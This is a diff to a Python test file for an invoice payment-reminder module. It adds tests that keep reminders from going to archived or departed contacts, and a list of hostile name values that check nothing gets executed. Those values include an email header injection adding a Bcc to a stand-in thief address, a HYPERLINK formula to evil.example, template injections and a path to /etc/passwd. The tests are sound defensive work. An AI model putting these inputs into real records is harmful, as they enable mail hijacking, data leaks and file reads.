@@ -20,6 +20,7 @@ HOSTILE = {
     "inline": "{{ 7*7 }} #{7*7} ${7*7} %(name)s {0}",
     "formula": "=HYPERLINK('http://evil.example')",
     "path": "../../../etc/passwd",
+    "header": "Moreau\r\nBcc: thief@evil.example",
     "quotes": "\"Moreau\" <thief@evil.example>, 'Fils'",
     "control": "Mo\x01re\x0bau\x1f\x7f",
     "bidi": "Moreau \u202eevil\u202c شركة النور",
@@ -116,6 +117,44 @@ class TestBadRecords(EmailCommon):
         )
         self.assertNotIn("False", self.letter(notice))
 
+    def test_an_archived_contact_gets_nothing(self):
+        """Jeanne was chosen for the reminders and has left the company."""
+        jeanne = self.env["res.partner"].create(
+            {
+                "name": "Jeanne",
+                "parent_id": self.customer.id,
+                "email": "jeanne@moreau.example",
+            }
+        )
+        self.customer.dunning_contact_id = jeanne
+        jeanne.active = False
+        self.invoice(100, "2026-09-01")
+        notice = self.issue()
+        self.assertEqual(notice.contact_id, self.customer)
+        self.assertIn("compta@moreau.example", notice.delivery_ids.recipient)
+
+    def test_a_contact_who_now_works_elsewhere_gets_nothing(self):
+        """Jeanne was chosen for the reminders; she now works for another customer, who
+        has no business knowing what the bakery owes."""
+        jeanne = self.env["res.partner"].create(
+            {
+                "name": "Jeanne",
+                "parent_id": self.customer.id,
+                "email": "jeanne@moreau.example",
+            }
+        )
+        self.customer.dunning_contact_id = jeanne
+        jeanne.write(
+            {
+                "parent_id": self.make_customer("Garage Petit").id,
+                "email": "jeanne@petit.example",
+            }
+        )
+        self.invoice(100, "2026-09-01")
+        notice = self.issue()
+        self.assertEqual(notice.contact_id, self.customer)
+        self.assertNotIn("petit.example", notice.delivery_ids.recipient)
+
     def test_a_company_that_has_filled_in_nothing_writes_all_the_same(self):
         """No address, no bank, no legal mentions, no language: the letter is made. No
         e-mail: the message waits, and says for what."""
@@ -151,7 +190,7 @@ class TestBadRecords(EmailCommon):
     # Hostile
 
     def test_what_a_name_contains_is_never_executed(self):
-        """Ten names that try to be HTML, a template, a formula, a path.
+        """Eleven names that try to be HTML, a template, a formula, a path, a header.
         Each prints as it was typed, on a letter and in an e-mail, and nothing else of
         the letter changes."""
         self.policy.start_mode = "by_age"
